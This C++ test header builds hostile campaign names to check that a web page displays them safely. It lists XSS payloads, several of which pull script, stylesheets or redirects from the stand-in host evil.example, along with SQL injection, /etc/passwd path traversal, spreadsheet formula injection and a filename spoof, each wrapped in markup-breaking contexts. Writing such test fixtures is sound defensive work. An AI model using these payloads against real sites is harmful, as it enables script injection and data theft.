// SPDX-License-Identifier: LicenseRef-Bayme
#pragma once

#include <string>
#include <utility>
#include <vector>

namespace bayme::web::test {

/// Names somebody might give a campaign to break the page that shows it: every shape of an
/// injection, put into several surroundings. Valid UTF-8 without control characters, so that what
/// is shown can be compared with what was given.
inline std::vector<std::string> hostile_names() {
    static constexpr const char* payloads[] = {
        "<script>alert(1)</script>",
        "<ScRiPt>alert(1)</sCrIpT>",
        "<script src=//evil.example/x.js></script>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg/onload=alert(1)//",
        "<iframe src=javascript:alert(1)>",
        "<body onload=alert(1)>",
        "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
        "<a href=javascript:alert(1)>x</a>",
        "<details open ontoggle=alert(1)>",
        "<style>@import'//evil.example/x.css';</style>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<meta http-equiv=refresh content=0;url=//evil.example>",
        "<base href=//evil.example/>",
        "<form action=//evil.example><input type=submit>",
        "<object data=x><embed src=x>",
        "<template><img src=x onerror=alert(1)></template>",
        "<!--<img src=\"--><img src=x onerror=alert(1)>",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml version=\"1.0\"?><x/>",
        "javascript:alert(1)",
        "${alert(1)}",
        "{{constructor.constructor('alert(1)')()}}",
        "{{operator}}",
        "`${`<b>`}`",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;",
        "&amp;amp;",
        "&nbsp;&notit;&",
        "' onmouseover='alert(1)",
        "\" autofocus onfocus=\"alert(1)",
        "\u2028alert(1)\u2029",
        "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E",
        R"(=HYPERLINK("//evil.example";"x"))",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "../../../../etc/passwd",
        "Robert'); DROP TABLE campaigns;--",
        "\u202Egnp.exe",
        "\u0627\u0644\u062D\u0645\u0644\u0629 <b>",
        "\U0001F468\u200D\U0001F469\u200D\U0001F467 sale",
        "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306 zalgo",
    };
    static constexpr std::pair<const char*, const char*> surroundings[] = {
        {"", ""},
        {"\">", ""},
        {"'>", "<!--"},
        {"</td></tr></table>", ""},
        {"</title>", "Spring sale"},
    };
    std::vector<std::string> names;
    for (const auto* payload : payloads) {
        for (const auto& [before, after] : surroundings) {
            names.push_back(std::string{before} + payload + after);
        }
    }
    names.emplace_back(2000, '<');
    names.emplace_back(512, '"');
    return names;
}

} // namespace bayme::web::test
